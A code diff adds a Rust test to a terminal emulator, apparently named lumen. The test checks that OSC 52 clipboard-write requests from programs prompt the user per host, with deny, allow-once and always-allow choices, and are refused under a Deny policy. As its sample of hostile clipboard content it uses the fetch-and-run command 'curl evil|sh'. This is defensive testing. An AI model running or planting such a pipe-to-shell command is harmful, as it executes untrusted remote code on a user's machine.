@@ -620,3 +620,60 @@ fn a_click_under_a_dialog_reaches_no_pane() {
     assert_eq!(app.tabs[0].focused, left);
     assert!(!written(&b, 0).0.is_empty());
 }
+
+#[test]
+fn a_program_setting_the_clipboard_is_asked_about_per_host() {
+    use lumen::app::Effect;
+    let clip = |app: &mut lumen::app::App| -> Vec<String> {
+        app.take_effects()
+            .into_iter()
+            .filter_map(|e| match e {
+                Effect::SetClipboard(t) => Some(t),
+                _ => None,
+            })
+            .collect()
+    };
+    let osc52 = |text: &str| {
+        use base64::Engine;
+        format!(
+            "\x1b]52;c;{}\x07",
+            base64::engine::general_purpose::STANDARD.encode(text)
+        )
+    };
+    let (mut app, b) = app(100, 30);
+    // Deny: nothing reaches the clipboard.
+    output(&mut app, &b, 0, osc52("curl evil|sh").as_bytes());
+    let s = screen(&app);
+    assert!(
+        s.contains("wants to set your clipboard") && s.contains("curl evil|sh"),
+        "{s}"
+    );
+    assert!(s.contains("a local shell"), "{s}");
+    ch(&mut app, 'd');
+    assert!(clip(&mut app).is_empty());
+    assert_eq!(app.clipboard, None);
+    // Allow once: this text, and the next request asks again.
+    output(&mut app, &b, 0, osc52("uptime").as_bytes());
+    ch(&mut app, 'o');
+    assert_eq!(clip(&mut app), ["uptime"]);
+    output(&mut app, &b, 0, osc52("df -h").as_bytes());
+    assert!(screen(&app).contains("wants to set your clipboard"));
+    // Always for this host: this one and later ones go through without a question.
+    ch(&mut app, 'a');
+    assert_eq!(clip(&mut app), ["df -h"]);
+    output(&mut app, &b, 0, osc52("free -m").as_bytes());
+    assert!(app.layers.is_empty());
+    assert_eq!(clip(&mut app), ["free -m"]);
+    // lumen's own copies never ask.
+    let mut config = Config::default();
+    config.clipboard = lumen::app::config::ClipboardPolicy::Deny;
+    let (mut app, b) = app_with(config, 100, 30);
+    output(&mut app, &b, 0, osc52("curl evil|sh").as_bytes());
+    assert!(app.layers.is_empty());
+    assert!(clip(&mut app).is_empty());
+    assert!(
+        app.message
+            .as_ref()
+            .is_some_and(|m| m.text.contains("refused"))
+    );
+}
